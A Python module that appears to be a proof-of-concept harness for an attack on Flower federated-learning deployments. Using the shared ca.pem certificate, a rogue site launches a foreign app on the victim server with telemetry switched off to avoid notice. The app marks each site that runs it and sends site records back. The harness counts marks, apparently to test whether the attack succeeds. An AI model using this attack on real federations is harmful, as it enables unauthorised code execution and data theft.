"""Another site turns against the rest: with `ca.pem`, which every site has, it starts a run of a foreign app.

The app (folder foreign/) leaves a mark wherever a site executes it, and sends the site's records back.
"""

import os
import shutil
import subprocess
import sys
from pathlib import Path

FOREIGN = Path(__file__).parent / "foreign"
SWITCHES = {  # of the attacker: no word to anybody outside
    "FLWR_TELEMETRY_ENABLED": "0",
    "FLWR_DISABLE_UPDATE_CHECK": "1",
}


def attack(home: Path, address: str, certificate: Path, mark: Path, num_sites: int) -> dict:
    """What `flwr run --stream` says to the attacker, the loot included."""
    shutil.copytree(FOREIGN, home / "app")
    shutil.copy(certificate, home / "ca.pem")
    connection = f'address = "{address}"\nroot-certificates = "{home / "ca.pem"}"\n'
    (home / "config.toml").write_text(f'[superlink]\ndefault = "victim"\n\n[superlink.victim]\n{connection}')
    flwr = str(Path(sys.executable).parent / "flwr")
    settings = f'mark="{mark}" sites={num_sites}'
    with (home / "said").open("w+") as said:  # what it may leave running would keep a pipe open
        code = subprocess.run(
            [flwr, "run", str(home / "app"), "victim", "-c", settings, "--stream"],
            env={**os.environ, **SWITCHES, "FLWR_HOME": str(home), "COLUMNS": "200"},
            stdout=said,
            stderr=said,
            check=False,
            timeout=200,
        ).returncode
    return {"code": code, "stdout": (home / "said").read_text(), "stderr": "", "marks": len(list(mark.glob("*")))}
